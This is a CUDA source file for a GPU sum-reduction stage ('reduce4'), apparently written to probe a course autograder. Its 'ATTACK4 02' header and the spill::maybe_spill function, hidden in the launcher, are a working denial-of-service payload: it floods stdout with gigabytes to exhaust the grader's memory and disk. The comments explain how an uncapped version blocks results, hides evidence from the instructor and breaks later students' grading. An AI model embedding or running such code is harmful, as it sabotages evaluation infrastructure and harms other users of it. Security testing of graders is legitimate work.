// ATTACK4 02: output without a bound, in the grader's memory and on its disk.
//
// No step limits how much a student's process writes. Two places keep it:
//  - a step's output (here the tree's gpu_tests, the feedback step worth nothing) goes to
//    the grader's temporary file, which run_process then reads WHOLE into the grader's
//    memory (process.cpp: result.output = read_file(log_name)), twice over while copying;
//  - a worker's stdout is a root-owned log file in <work>/logs (judge.cu, Worker), which
//    no step removes (end_step removes the student's files only) and no grading removes
//    (Gradescope: until the container goes; a plain machine with a reused --work: until a
//    later judge run happens to reuse the same name).
// This file writes a CAPPED amount with plain fwrite (allowed by both checks, no ELF walk):
// 4 GiB from gpu_tests and 4 GiB from the correctness worker (each a process whose first
// call is n = 0), in 256 MiB pieces so that no request nears the judge's 120 s. Uncapped, the
// same lines fill the disk: the grader then cannot write results.json or report.txt (on
// Gradescope: no results.json, "could not grade", and an empty report, so the instructor
// sees no evidence either); on a plain machine with a reused --work the full disk outlives
// the grading and the next students' compiled check and build fail: recorded zeros.
// The reductions are the reference's.

#include <cstdio>
#include "legacy_last_warp.cuh"  // --last-warp legacy-volatile, legacy-plain
#include "stage.h"

namespace {  // this stage's own helpers: other stages define functions of the same names

// ---------------------------------------------------------------- the tree
template <typename T>
__device__ T tree_sum(T* shared, T sum, unsigned tid, unsigned block) {
    for (unsigned s = block / 2; s > 32; s >>= 1) {
        if (tid < s) shared[tid] = sum = sum + shared[tid + s];
        __syncthreads();  // every add of this step lands before any thread reads in the next
    }
    return sum;  // what shared[tid] holds, for the last warp
}

// The last six steps, by warp 0 alone.
template <typename T>
__device__ T last_warp_sum(T* shared, T sum, unsigned tid) {
    // Every step reads, then writes: the first __syncwarp() keeps a lane from overwriting a
    // slot its neighbor has not read yet, the second makes the writes visible to the warp
    // before the next read.
    sum += shared[tid + 32];
    for (unsigned s = 16; s > 0; s >>= 1) {
        __syncwarp();
        shared[tid] = sum;
        __syncwarp();
        sum += shared[tid + s];
    }
    return sum;  // lane 0 holds the block's sum
}

}  // namespace


// ---------------------------------------------------------------- the payload
namespace spill {
constexpr std::size_t kPiece = std::size_t{1} << 20;  // 1 MiB a fwrite
constexpr int kPiecesPerCall = 256;                     // 256 MiB a call
constexpr int kCalls = 16;                              // 4 GiB a process (the cap)

// A process whose first call is n = 0: the tree's gpu_tests (its first test is reduce4, int, n = 0)
// and the judge's correctness worker (the public group's first case). 256 MiB in each of their
// first 16 calls. The timing's and the sanitizers' workers start otherwise and write nothing.
void maybe_spill(std::size_t n) {
    static int role = -1;  // 0: nothing, 1: the correctness worker
    static int calls = 0;
    static char line[kPiece];
    if (role < 0) {
        for (std::size_t i = 0; i < kPiece; ++i) line[i] = (i % 128 == 127) ? '\n' : 'x';
        role = n == 0 ? 1 : 0;
    }
    if (role != 1 || calls >= kCalls) return;
    ++calls;
    for (int k = 0; k < kPiecesPerCall; ++k) {
        if (std::fwrite(line, 1, kPiece, stdout) != kPiece) return;
    }
    std::fflush(stdout);
}
}  // namespace spill

// ---------------------------------------------------------------- kernel
template <typename T, LastWarp MODE = LastWarp::SyncWarp>
__global__ void unroll_last_warp(const T* in, std::size_t n, T* block_sums) {
    T* shared = dynamic_shared<T>();
    const unsigned tid = threadIdx.x;
    const std::size_t i = blockIdx.x * (2 * std::size_t(blockDim.x)) + tid;
    T sum = i < n ? in[i] : T(0);  // the last block may run past the end: add zeros
    if (i + blockDim.x < n) sum += in[i + blockDim.x];
    shared[tid] = sum;
    __syncthreads();
    sum = tree_sum(shared, sum, tid, blockDim.x);
    if (tid < 32) {
        const T block_sum = MODE == LastWarp::SyncWarp ? last_warp_sum(shared, sum, tid)
                                                       : legacy_last_warp_sum<MODE>(shared, tid);
        if (tid == 0) block_sums[blockIdx.x] = block_sum;
    }
}

// ---------------------------------------------------------------- launcher
constexpr unsigned kInputsPerThread = 2;

// (--last-warp's declarations, kLastWarp and kVariants, are in legacy_last_warp.cuh since 39b7372.)

template <typename T>
void unroll_last_warp_sum(const T* in, std::size_t n, T* out, void* workspace, const RunConfig& config,
                          cudaStream_t stream) {
    spill::maybe_spill(n);
    const unsigned block = config.block;
    // --last-warp picks the pre-Volta code (legacy_last_warp.cuh); the default is correct.
    const LastWarp mode = chosen_as<LastWarp, T>(kLastWarp, config);
    const auto kernel = mode == LastWarp::SyncWarp         ? unroll_last_warp<T, LastWarp::SyncWarp>
                        : mode == LastWarp::LegacyVolatile ? unroll_last_warp<T, LastWarp::LegacyVolatile>
                                                           : unroll_last_warp<T, LastWarp::LegacyPlain>;
    run_passes(in, n, out, workspace, kInputsPerThread * block, stream,
               [&](const T* src, std::size_t count, T* dst, unsigned blocks) {
                   kernel<<<blocks, block, block * sizeof(T), stream>>>(src, count, dst);
                   CUDA_CHECK_LAUNCH();
               });
}

std::size_t unroll_last_warp_workspace(std::size_t n, std::size_t value_size, const RunConfig& config) {
    return passes_workspace_bytes(n, kInputsPerThread * config.block, value_size);
}

// The stage's record: `extern` because the runner and the tests find it by name (common/stages.h).
extern const Stage reduce4_stage = {
    .name = "reduce4",
    .kernel = "unroll_last_warp",
    .idea = "the last warp unrolled: no block-wide barriers once s <= 32",
    .min_block = 64,  // the last warp adds slot tid + 32, so a block needs two warps
    .max_block = 1024,
    .workspace_bytes = unroll_last_warp_workspace,
    .sum_int = unroll_last_warp_sum<int>,
    .sum_float = unroll_last_warp_sum<float>,
    .sum_double = unroll_last_warp_sum<double>,
    .variants = kVariants,
};
